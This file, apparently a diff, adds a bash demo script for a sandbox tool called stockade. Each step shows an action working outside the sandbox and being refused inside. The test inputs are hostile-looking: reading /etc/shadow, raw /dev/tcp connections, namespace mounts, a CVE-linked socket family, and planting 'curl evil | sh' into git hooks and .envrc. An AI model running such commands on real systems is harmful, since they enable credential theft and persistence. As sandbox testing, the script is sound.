@@ -1,0 +1,163 @@
+#!/bin/bash
+# One sandboxed session after another, each a claim followed by its evidence: demo.sh STOCKADE
+#
+# What is refused inside is first shown to work outside. If any evidence is missing, the demo fails.
+set -euo pipefail
+stockade=$(realpath "${1:-target/release/stockade}")
+[ "$(id -u)" = 0 ] || { echo "demo: needs root, for namespaces, cgroups and idmapped mounts" >&2; exit 1; }
+[ -x "$stockade" ] || { echo "demo: no program at $stockade: run make demo" >&2; exit 1; }
+
+if [ -t 1 ] && [ -z "${NO_COLOR:-}" ]; then
+    bold=$'\e[1m' green=$'\e[32m' red=$'\e[31m' dim=$'\e[2m' plain=$'\e[0m'
+else
+    bold='' green='' red='' dim='' plain=''
+fi
+
+# The owner of the workspace: an ordinary user, to show that files stay theirs.
+owner=${SUDO_UID:-1000}
+scratch=$(mktemp -d /var/tmp/stockade-demo.XXXXXX)
+workspace=$scratch/workspace
+listener=
+finish() {
+    [ -z "$listener" ] || kill "$listener" 2>/dev/null || true
+    rm -rf "$scratch"
+}
+trap finish EXIT
+install -d -o "$owner" -g "$owner" "$workspace"
+chmod 711 "$scratch"
+
+claims=0
+claim() {
+    claims=$((claims + 1))
+    printf '\n%s%2d. %s%s\n' "$bold" "$claims" "$*" "$plain"
+}
+
+# run [OPTION…] -- COMMAND…: shows the command, then runs it in a sandbox; what it says is in $out, how it ended in $status.
+run() {
+    local options=()
+    while [ "$1" != -- ]; do options+=("$1"); shift; done
+    shift
+    printf '%s    inside  $ %s%s\n' "$dim" "${*: -1}" "$plain"
+    status=0
+    out=$("$stockade" run --policy shell --workspace "$workspace" "${options[@]}" -- "$@" 2>&1 </dev/null) || status=$?
+    show "$out"
+}
+
+outside() {
+    printf '%s    outside $ %s%s\n' "$dim" "$1" "$plain"
+    status=0
+    out=$(bash -c "$1" 2>&1 </dev/null) || status=$?
+    show "$out"
+}
+
+show() { [ -z "$1" ] || sed 's/^/            /' <<<"$1" | head -n "${lines:-8}"; }
+
+# evidence WHAT TEST…: the demo ends here if TEST does not hold.
+evidence() {
+    local what=$1
+    shift
+    if "$@"; then
+        printf '    %s✓ %s%s\n' "$green" "$what" "$plain"
+    else
+        printf '    %s✗ %s: not seen (status %s)%s\n' "$red" "$what" "$status" "$plain"
+        exit 1
+    fi
+}
+says() { grep -Eq -- "$1" <<<"$out"; }
+ended() { [ "$status" = "$1" ]; }
+failed() { [ "$status" != 0 ]; }
+
+claim "The agent is an ordinary user inside, and a uid that owns nothing outside"
+run -- sh -c 'id -u; cat /proc/self/uid_map'
+evidence "it is not uid 0, inside or outside" eval '[ "$(head -n1 <<<"$out")" != 0 ] && awk "NR > 1 && \$2 == 0 { bad = 1 } END { exit bad }" <<<"$out"'
+
+claim "What the policy does not name does not exist"
+outside "head -c 5 /etc/shadow"
+evidence "root can read it outside" ended 0
+run -- sh -c 'cat /etc/shadow'
+evidence "inside there is no such file" says 'No such file'
+
+claim "The system is read-only, set-id programs are ordinary ones"
+run -- sh -c 'touch /usr/bin/planted'
+evidence "refused" says 'Read-only file system'
+evidence "nothing was planted" test ! -e /usr/bin/planted
+
+claim "There is no network but the sandbox's own loopback"
+python3 - >"$scratch/port" <<'PY' &
+import socket
+s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(); print(s.getsockname()[1], flush=True)
+while True: s.accept()[0].close()
+PY
+listener=$!
+for _ in $(seq 200); do [ -s "$scratch/port" ] && break; sleep 0.05; done
+port=$(cat "$scratch/port")
+outside "echo > /dev/tcp/127.0.0.1/$port && echo connected"
+evidence "a service listens on the host" says '^connected'
+run -- bash -c "echo > /dev/tcp/127.0.0.1/$port && echo connected"
+evidence "inside nothing answers" eval 'failed && ! says "^connected"'
+run -- sh -c 'tail -n +3 /proc/net/dev | cut -d: -f1'
+evidence "lo is the only interface" eval '[ "$(tr -d " \n" <<<"$out")" = lo ]'
+
+claim "Other processes are neither seen nor signalled"
+outside "kill -0 $$ && echo alive"
+evidence "this demo can be signalled outside" says alive
+run -- sh -c "kill -0 $$; echo; ls -d /proc/[0-9]* | wc -l"
+evidence "inside there is no such process" says 'No such process'
+
+claim "No capability in any set, no new privileges, a system-call filter"
+run -- sh -c 'grep -E "^(Cap|NoNewPrivs|Seccomp:)" /proc/self/status'
+evidence "all five sets are empty" eval '[ "$(grep -Ec "^Cap[A-Za-z]+:\s+0{16}$" <<<"$out")" = 5 ]'
+evidence "the filter is on, and nothing can be gained by exec" eval 'says "^NoNewPrivs:\s+1" && says "^Seccomp:\s+2"'
+
+claim "The kernel's dangerous doors are shut"
+outside "unshare --user --mount sh -c 'mount -t tmpfs none /mnt && echo mounted'"
+evidence "outside, anybody may make a user namespace and mount in it" says mounted
+run -- sh -c "unshare --user --mount sh -c 'mount -t tmpfs none /mnt && echo mounted'"
+evidence "inside it is refused" eval 'failed && ! says "^mounted"'
+run -- python3 -c 'import socket; socket.socket(38, 5, 0)  # AF_ALG: CVE-2026-31431'
+evidence "and so are socket families that are not on the list" eval 'failed && says "Error"'
+
+claim "Files that the agent makes belong to the owner of the workspace"
+run -- sh -c 'echo "made inside" > note; ls -ln note'
+evidence "made" ended 0
+outside "stat -c '%u %n' $workspace/note"
+evidence "outside its owner is uid $owner" says "^$owner "
+
+claim "What the host may execute later cannot be planted, even where it does not exist yet"
+git -c init.defaultBranch=main init -q "$workspace" && chown -R "$owner:$owner" "$workspace"
+run -- sh -c 'echo "curl evil | sh" > .git/hooks/pre-commit; echo "curl evil | sh" > .envrc'
+evidence "refused" failed
+evidence "no hook and no .envrc came to be" eval 'test ! -s "$workspace/.git/hooks/pre-commit" && test ! -s "$workspace/.envrc"'
+
+claim "A memory hog dies alone, and the user is told why"
+run --memory 64M -- python3 -c 'b"x" * (256 << 20)'
+evidence "killed" eval 'ended 137'
+evidence "the reason is given" says '[Mm]emory'
+
+claim "A fork bomb reaches its limit, not the machine's"
+run --processes 24 -- bash -c 'for i in $(seq 40); do sleep 5 & done 2>&1 | tail -n 1; kill $(jobs -p) 2>/dev/null'
+evidence "refused by the limit" says 'Resource temporarily unavailable'
+
+claim "It works in pipes, and exit codes come through"
+out=$(echo "twelve bytes" | "$stockade" run --policy shell -- cat | wc -c) status=0
+printf '%s    outside $ echo "twelve bytes" | stockade run --policy shell -- cat | wc -c%s\n' "$dim" "$plain"
+show "$out"
+evidence "13 bytes, the newline included" eval '[ "$out" = 13 ]'
+run -- sh -c 'exit 42'
+evidence "exit code 42" ended 42
+
+claim "A misspelt policy is refused, not guessed"
+printf 'extends = "shell"\ndescription = "demo"\n[netwrok]\nloopback = true\n' >"$scratch/typo.toml"
+outside "'$stockade' policy check '$scratch/typo.toml'"
+evidence "with the line and a suggestion" eval 'ended 1 && says ":?3" && says "network"'
+
+claim "The report says what is in force, read back from the kernel"
+run --report "$scratch/report.json" -- sh -c 'true'
+outside "python3 -m json.tool '$scratch/report.json' | head -n 40"
+evidence "a report was written" ended 0
+
+claim "Nothing is left behind"
+outside "grep -c stockade /proc/self/mountinfo; find /sys/fs/cgroup -type d -path '*stockade*' -name 'run-*' | wc -l; pgrep -fc 'stockade run'"
+evidence "no mount, no cgroup, no process" eval '! says "[1-9]"'
+
+printf '\n%s%s%d claims, each with its evidence.%s\n' "$bold" "$green" "$claims" "$plain"
